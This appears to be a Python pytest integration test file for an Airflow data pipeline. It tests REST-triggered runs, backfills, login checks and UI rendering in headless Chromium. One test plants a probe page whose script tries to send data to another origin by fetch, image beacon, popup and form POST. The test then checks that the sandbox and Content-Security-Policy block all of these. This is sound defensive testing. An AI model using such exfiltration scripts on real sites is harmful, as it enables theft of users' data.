"""Airflow as users run it: its services (api-server, scheduler, dag-processor) started on
loopback over SQLite, ``replica_cdr`` triggered through the REST API v2 with a conf, a
backfill of two dates through the CLI, each date starting from the previous one's
state, and the UI (the plugin's Conflicts page, the Data Docs link, the trigger form)
opened in headless Chromium with screenshots.

The scheduler's own nightly runs are off (``use_job_schedule``): the test drives every
run, so that no run for today's date races the ones it checks.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import shutil
import signal
import subprocess
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest

from pipeline.core.report import RunReport
from pipeline.storage.context import safe_run_id
from tests.helpers import configs
from tests.helpers import published as P
from tests.helpers.airflow_env import BIN, airflow_environment, use_database
from tests.helpers.scenarios import cdr_run_snapshots, snapshot_rows

# the backfill waits up to 30 minutes for its runs; a hang beyond that fails the test
pytestmark = [pytest.mark.slow, pytest.mark.timeout(2400)]

DATES = [date(2026, 11, 19) + timedelta(days=i) for i in range(3)]  # REST run, then backfill
PASSWORD = "a-password-for-the-tests"  # the admin's, in the simple auth manager's file
# where the screenshots go (kept for people to look at); default: the test's tmp folder
SCREENSHOTS = Path(os.environ["CDR_SCREENSHOTS"]) if os.environ.get("CDR_SCREENSHOTS") else None


class Airflow:
    """The running services and a REST client for them."""

    def __init__(self, url: str, env: dict[str, str], logs: Path):
        self.url, self.env, self.logs = url, env, logs
        self._token: str | None = None

    def token(self) -> str:
        """An admin's token, logged in with the simple auth manager's password."""
        if self._token is None:
            req = urllib.request.Request(
                f"{self.url}/auth/token",
                data=json.dumps({"username": "admin", "password": PASSWORD}).encode(),
                headers={"Content-Type": "application/json"},
            )
            with urllib.request.urlopen(req, timeout=30) as r:
                self._token = json.load(r)["access_token"]
        return self._token

    def login(self, page: Any) -> None:
        """The browser page's session cookie, as the UI's login sets it."""
        page.context.add_cookies([{"name": "_token", "value": self.token(), "url": self.url}])

    def api(self, method: str, path: str, body: Any = None, root: str = "/api/v2") -> Any:
        req = urllib.request.Request(
            f"{self.url}{root}{path}",
            method=method,
            data=None if body is None else json.dumps(body).encode(),
            headers={"Authorization": f"Bearer {self.token()}", "Content-Type": "application/json"},
        )
        with urllib.request.urlopen(req, timeout=30) as r:
            return json.load(r)

    def cli(self, *args: str) -> str:
        """Run ``airflow *args``. SQLite returns "database is locked" at once, busy
        timeout or not, when two writers would deadlock (here the CLI and the scheduler);
        Airflow then undoes what the command wrote "so the user can retry", as we do."""
        for attempt in range(4):
            out = subprocess.run(
                [str(BIN / "airflow"), *args],
                env=self.env,
                capture_output=True,
                text=True,
                check=False,
            )
            if out.returncode == 0 or "database is locked" not in out.stderr + out.stdout:
                break
            time.sleep(2 + 3 * attempt)
        assert out.returncode == 0, out.stdout + out.stderr
        return out.stdout

    def wait_for_runs(self, n: int, timeout: float) -> list[dict[str, Any]]:
        """Until ``n`` runs of replica_cdr have ended; fails on a failed one."""
        deadline = time.monotonic() + timeout
        while True:
            runs = self.api("GET", "/dags/replica_cdr/dagRuns?order_by=logical_date")["dag_runs"]
            failed = [r for r in runs if r["state"] == "failed"]
            assert not failed, f"{failed[0]['dag_run_id']} failed; logs under {self.logs}"
            if sum(r["state"] == "success" for r in runs) >= n:
                return runs
            assert time.monotonic() < deadline, f"runs not done in {timeout}s: {runs}"
            time.sleep(3)


def _free_port() -> int:
    from pipeline.storage.s3server import free_port

    return free_port()


def _wait_http(url: str, timeout: float, procs: list[subprocess.Popen]) -> None:
    deadline = time.monotonic() + timeout
    while True:
        try:
            urllib.request.urlopen(url, timeout=2).close()
            return
        except (OSError, urllib.error.HTTPError):
            dead = [p.args for p in procs if p.poll() is not None]
            assert not dead and time.monotonic() < deadline, f"{url} not up; ended: {dead}"
            time.sleep(1)


def _generated(i: int):
    from pipeline.app.generate import GenerateOptions

    return GenerateOptions(events=300, seed=20 + i, base_rows=50)


@pytest.fixture(scope="module")
def services(tmp_path_factory, s3_endpoint, airflow_db) -> Iterator[Airflow]:
    import boto3

    from pipeline.app.demo import DEMO_CONFIG
    from pipeline.app.generate import generate
    from pipeline.core.config_load import load_config
    from pipeline.storage.store import open_store

    home = tmp_path_factory.mktemp("airflow-services")
    bucket = "cdr-services"
    boto3.client("s3").create_bucket(Bucket=bucket)
    # every run's logical date is past: a deadline a minute after it is missed at once
    cfg = configs.write(
        home / "cdr.yaml", DEMO_CONFIG, store=f"s3://{bucket}/prod", deadline_minutes=1
    )
    config = load_config(cfg)
    store = open_store(f"s3://{bucket}/prod")
    for i, d in enumerate(DATES):
        generate(config, store, d, _generated(i))

    passwords = home / "passwords.json"
    passwords.write_text(json.dumps({"admin": PASSWORD}))
    port = _free_port()
    url = f"http://127.0.0.1:{port}"
    env = {
        **os.environ,
        **airflow_environment(home),
        "CDR_CONFIG": str(cfg),
        "CDR_WORK_DIR": str(home / "work"),
        "AIRFLOW__API__PORT": str(port),
        "AIRFLOW__API__BASE_URL": url,
        "AIRFLOW__CORE__EXECUTION_API_SERVER_URL": f"{url}/execution/",
        "AIRFLOW__API_AUTH__JWT_SECRET": "test-secret-shared-by-the-services",
        # real logins: an anonymous visitor is refused (the plugin's pages too)
        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_ALL_ADMINS": "False",
        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_USERS": "admin:admin",
        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_PASSWORDS_FILE": str(passwords),
        "AIRFLOW__CORE__PARALLELISM": "2",
        "AIRFLOW__SCHEDULER__USE_JOB_SCHEDULE": "False",
        "AIRFLOW__DAG_PROCESSOR__REFRESH_INTERVAL": "5",
        "AIRFLOW__LOGGING__LOGGING_LEVEL": "INFO",
        "AIRFLOW_CONN_AWS_DEFAULT": json.dumps(
            {
                "conn_type": "aws",
                "login": os.environ["AWS_ACCESS_KEY_ID"],
                "password": os.environ["AWS_SECRET_ACCESS_KEY"],
                "extra": {"endpoint_url": s3_endpoint, "region_name": "us-east-1"},
            }
        ),
    }
    env.pop("AWS_ENDPOINT_URL_S3", None)  # tasks get it from aws_default, the plugin too
    use_database(airflow_db, home)
    procs = []
    for service in (["api-server", "--port", str(port)], ["scheduler"], ["dag-processor"]):
        log = open(home / f"{service[0]}.log", "w")  # noqa: SIM115 (closed with the process)
        procs.append(
            subprocess.Popen(  # a group of its own: the scheduler's children go with it
                [str(BIN / "airflow"), *service],
                env=env,
                stdout=log,
                stderr=subprocess.STDOUT,
                start_new_session=True,
            )
        )
    af = Airflow(url, env, home)
    try:
        _wait_http(f"{url}/api/v2/version", 180, procs)
        deadline = time.monotonic() + 180
        while True:  # until the dag-processor has parsed the DAG
            try:
                af.api("GET", "/dags/replica_cdr")
                break
            except urllib.error.HTTPError:
                assert time.monotonic() < deadline, f"replica_cdr not parsed; see {home}"
                time.sleep(2)
        af.api("PATCH", "/dags/replica_cdr", {"is_paused": False})
        af.store = store  # type: ignore[attr-defined]
        yield af
    finally:  # each service with what it started (the scheduler's executor, serve-logs)
        for p in procs:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(p.pid, signal.SIGTERM)
        for p in procs:
            try:
                p.wait(timeout=30)
            except subprocess.TimeoutExpired:
                os.killpg(p.pid, signal.SIGKILL)
            with contextlib.suppress(ProcessLookupError):  # its children may outlive it
                os.killpg(p.pid, signal.SIGKILL)


def _report(store, d: date) -> RunReport:
    return RunReport.from_json(store.read_bytes(f"published/reports/dt={d}/run_report.json"))


def test_a_run_triggered_through_the_rest_api_publishes(services, tmp_path, spark):
    """POST dagRuns with a conf naming the date: the snapshot of that date is in S3, and
    it holds the rows ``cdr run`` publishes for the same exports."""
    run = services.api(
        "POST",
        "/dags/replica_cdr/dagRuns",
        {"logical_date": f"{DATES[1]}T02:00:00Z", "conf": {"date": str(DATES[0])}},
    )
    assert run["conf"] == {"date": str(DATES[0])}
    services.wait_for_runs(1, timeout=900)
    store = services.store
    for table in ("products", "orders", "accounts"):
        assert P.snapshot_date(store, table) == str(DATES[0])
    assert _report(store, DATES[0]).status == "published"
    tables = ("products", "orders", "accounts")
    got = {t: snapshot_rows(store, t) for t in tables}
    assert all(got.values()) and got == cdr_run_snapshots(store, str(DATES[0]), tmp_path, tables)
    # the run was not done a minute after its logical date: its deadline alert fired
    path = f"/dags/replica_cdr/dagRuns/{run['dag_run_id']}/deadlines"
    (deadline,) = services.api("GET", path, root="/ui")["deadlines"]
    assert deadline["missed"] and deadline["alert_name"] == "replica_cdr not done"
    line = f"replica_cdr missed its deadline for {DATES[0]}: run {run['dag_run_id']} not done by"
    assert _wait_for_log_line(services.logs / "logs" / "executor_callbacks", line, timeout=120)
    # a small night: the resolve task's driver starts with a small run's JVM options
    resolve = services.logs / "logs" / "dag_id=replica_cdr" / f"run_id={run['dag_run_id']}"
    submitted = _wait_for_log_line(resolve / "task_id=resolve", "Spark-Submit cmd:", timeout=10)
    assert submitted and "-XX:TieredStopAtLevel=1" in submitted.read_text(), submitted


def _wait_for_log_line(folder: Path, text: str, timeout: float) -> Path | None:
    """The file under ``folder`` whose text holds ``text``, once one does."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for f in folder.rglob("*"):
            if f.is_file() and text in f.read_text(errors="replace"):
                return f
        time.sleep(2)
    return None


def test_a_backfill_of_two_dates_chains_their_states(services):
    """``airflow backfill create`` over the next two mornings: the runs process DATES[1]
    and DATES[2] in order, each from the state the previous date published."""
    services.cli(
        "backfill",
        "create",
        "--dag-id",
        "replica_cdr",
        "--from-date",
        f"{DATES[2]}T02:00:00+00:00",
        "--to-date",
        f"{DATES[2] + timedelta(days=1)}T02:00:00+00:00",
        "--max-active-runs",
        "1",
        "--reprocess-behavior",  # required with depends_on_past: missing and failed dates
        "failed",
    )
    runs = services.wait_for_runs(3, timeout=1800)
    assert [r["run_type"] for r in runs].count("backfill") == 2, runs
    store = services.store
    for prev, d in itertools.pairwise(DATES):
        report = _report(store, d)
        assert report.status == "published"
        for name, table in report.tables.items():
            assert table.prior == str(prev), (d, name, table.prior)
    published = [r for r in P.runs(store) if r["status"] == "published"]
    assert [str(r["dt"]) for r in published] == [str(d) for d in DATES]  # in order
    for prev, run in itertools.pairwise(published):
        assert run["prior_run_id"] == prev["run_id"]
    assert P.snapshot_date(store, "orders") == str(DATES[-1])
    # publish's summary line, with the operator notes (retry, clock skew), in the task's log
    line = f"replica_cdr published {DATES[2]}: run {published[-1]['run_id']} (quarantine open: "
    assert _wait_for_log_line(services.logs / "logs" / "dag_id=replica_cdr", line, timeout=60)


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    assert chromium, "Debian's chromium is missing: `make browser` installs it"
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        yield b
        b.close()


def _shot(page, tmp_path: Path, name: str) -> Path:
    out = (SCREENSHOTS or tmp_path) / f"{name}.png"
    out.parent.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(out), full_page=True)
    assert out.stat().st_size > 10_000, f"{out} looks empty"
    return out


def test_the_plugin_needs_an_airflow_login(services):
    """The api-server serves the plugin's routes only to a logged-in Airflow user."""
    for path in ("/cdr/", "/cdr/api/runs", f"/cdr/docs/{DATES[1]}/x/index.html"):
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(f"{services.url}{path}", timeout=30)
        assert refused.value.code == 401, path
    req = urllib.request.Request(
        f"{services.url}/cdr/api/runs", headers={"Authorization": f"Bearer {services.token()}"}
    )
    with urllib.request.urlopen(req, timeout=30) as r:
        assert {run["dt"] for run in json.load(r)} >= {str(DATES[1])}


def test_the_conflicts_page_and_data_docs_render(services, browser, tmp_path):
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    services.login(page)
    page.goto(f"{services.url}/cdr/?dt={DATES[1]}")
    assert page.locator("h1").inner_text().startswith(f"Run of {DATES[1]}")
    assert page.locator("svg#conflicts-chart rect").count() > 0
    # conflict stats: the runs so far
    assert page.locator("svg#trend-orders circle.conflicts").count() >= 2
    tables = page.locator("table#tables td:first-child").all_inner_texts()
    assert sorted(tables) == ["accounts", "orders", "products"]
    assert page.locator("table#conflicts tr").count() > 1
    _shot(page, tmp_path, "conflicts-page")
    page.context.add_init_script(VIOLATIONS)
    with page.expect_popup() as opened:  # a tab of its own: a sandboxed page, top level
        page.get_by_text("Data Docs").first.click()
    docs = opened.value
    docs.wait_for_load_state("networkidle")
    run_id = _report(services.store, DATES[1]).run_id
    assert f"/cdr/docs/{DATES[1]}/{run_id}/grant/" in docs.url
    assert "snapshot" in docs.content()
    # the policy allows what the pages need: their bundled scripts and styles load and
    # run, and nothing is refused
    assert docs.evaluate("typeof window.jQuery") == "function"
    assert docs.evaluate("document.styleSheets.length") > 0
    assert docs.evaluate("window.__violations") == []
    _shot(docs, tmp_path, "data-docs")
    # the page inside Airflow's UI, from the Browse menu
    page.goto(f"{services.url}/plugin/cdr-conflicts")
    page.wait_for_load_state("networkidle")
    frame = page.frame_locator("iframe").first
    frame.locator("svg#conflicts-chart").wait_for(timeout=60_000)
    _shot(page, tmp_path, "airflow-ui-conflicts")


#: records the page's Content-Security-Policy violations, before any of its scripts runs
VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation",
    (e) => window.__violations.push(e.effectiveDirective));
"""


class _Recorder:
    """An HTTP server on another loopback origin that records every request it gets."""

    def __init__(self) -> None:
        import http.server
        import threading

        got = self.requests = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                got.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *a: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


#: a page of a run's Data Docs that tries to send what it can reach elsewhere
PROBE = """<html><body><p id="done">probe</p><script>
const to = "{url}";
fetch(to + "/fetch?typed=secret").catch(() => {{}});  // (document.cookie throws here)
new Image().src = to + "/img";
window.open(to + "/popup");
const form = document.createElement("form");
form.action = to + "/form"; form.method = "POST";
document.body.appendChild(form);
form.submit();
</script></body></html>"""


def test_a_data_docs_page_sends_nothing_to_another_origin(services, browser):
    """A page the run wrote (say one whose data carried a script) runs in the sandbox under
    the policy: its fetch, image, popup and form to another loopback origin are refused,
    the recorder there gets no request, and the policy's refusals fire
    ``securitypolicyviolation`` (the form and the popup are refused by the sandbox
    itself, before the policy's ``form-action``: no event, and the page stays)."""
    import hashlib

    recorder = _Recorder()
    # the first date's run: no test before asked for its Data Docs, whose listing the
    # server keeps once read (a run's report is written once)
    day = DATES[0]
    store, run_id = services.store, _report(services.store, day).run_id
    body = PROBE.format(url=recorder.url).encode()
    docs = f"published/reports/dt={day}/run={run_id}/validation/data_docs"
    store.write_bytes(f"{docs}/probe.html", body)
    key = f"published/reports/dt={day}/run={run_id}/run_report.json"
    report = json.loads(store.read_bytes(key))  # as if the run had written the page
    report["validation"]["data_docs_files"]["probe.html"] = hashlib.sha256(body).hexdigest()
    store.write_bytes(key, json.dumps(report).encode())
    page = browser.new_page()
    services.login(page)
    page.context.add_init_script(VIOLATIONS)
    page.goto(f"{services.url}/cdr/docs/{day}/{run_id}/probe.html")
    page.wait_for_load_state("networkidle")
    time.sleep(1)
    assert page.locator("#done").inner_text() == "probe"  # still there: the form did not go
    assert "/grant/" in page.url and len(page.context.pages) == 1  # no popup
    assert recorder.requests == []
    assert set(page.evaluate("window.__violations")) >= {"connect-src", "img-src"}
    recorder.server.shutdown()


def test_the_trigger_form_shows_the_params_and_triggers(services, browser, tmp_path):
    """The form shows each param with its description; filled in and submitted (the DAG
    paused, so that the run only queues), it creates a run with that conf."""
    services.api("PATCH", "/dags/replica_cdr", {"is_paused": True})
    page = browser.new_page(viewport={"width": 1280, "height": 1000})
    services.login(page)
    page.goto(f"{services.url}/dags/replica_cdr")
    page.get_by_role("button", name="Trigger").first.click()
    dialog = page.get_by_role("dialog")
    dialog.wait_for(timeout=60_000)
    dialog.get_by_text("Run Parameters").wait_for(timeout=60_000)
    dialog.get_by_text("Select one or multiple values").wait_for(timeout=30_000)
    text = dialog.inner_text()
    for expected in (
        "Date",
        "The date D whose exports to process",
        "Tables",
        "A subset of the tables",
        "Dry run",
        "On divergence",
        "as in the config (warn)",
        "Accept late exports",
        "Allow missing exports",
    ):
        assert expected in text, (expected, text)
    dialog.locator("input[type=date]").last.fill(str(DATES[-1]))
    dialog.get_by_text("Unpause replica_cdr on trigger").click()  # keep it paused: queue only
    _shot(page, tmp_path, "trigger-form")
    before = {r["dag_run_id"] for r in services.api("GET", "/dags/replica_cdr/dagRuns")["dag_runs"]}
    dialog.get_by_role("button", name="Trigger").last.click()
    deadline = time.monotonic() + 30
    while True:
        runs = services.api("GET", "/dags/replica_cdr/dagRuns")["dag_runs"]
        new = [r for r in runs if r["dag_run_id"] not in before]
        if new or time.monotonic() > deadline:
            break
        time.sleep(1)
    assert len(new) == 1 and new[0]["run_type"] == "manual", runs
    assert services.api("GET", "/dags/replica_cdr")["is_paused"]
    assert new[0]["conf"] == {
        "date": str(DATES[-1]),
        "tables": [],
        "dry_run": False,
        "on_divergence": None,
        "accept_late_exports": False,
        "accept_alert": False,
        "allow_missing_exports": False,
    }


def test_the_validate_task_links_to_its_data_docs(services):
    runs = services.api("GET", "/dags/replica_cdr/dagRuns?order_by=logical_date")["dag_runs"]
    run_id = runs[0]["dag_run_id"]
    links = services.api("GET", f"/dags/replica_cdr/dagRuns/{run_id}/taskInstances/validate/links")
    cdr_run = _report(services.store, DATES[0]).run_id  # the plan's id for the DAG run
    assert cdr_run == safe_run_id(f"{DATES[0]}_{run_id}.1")
    assert links["extra_links"] == {"Data Docs": f"/cdr/docs/{DATES[0]}/{cdr_run}/index.html"}
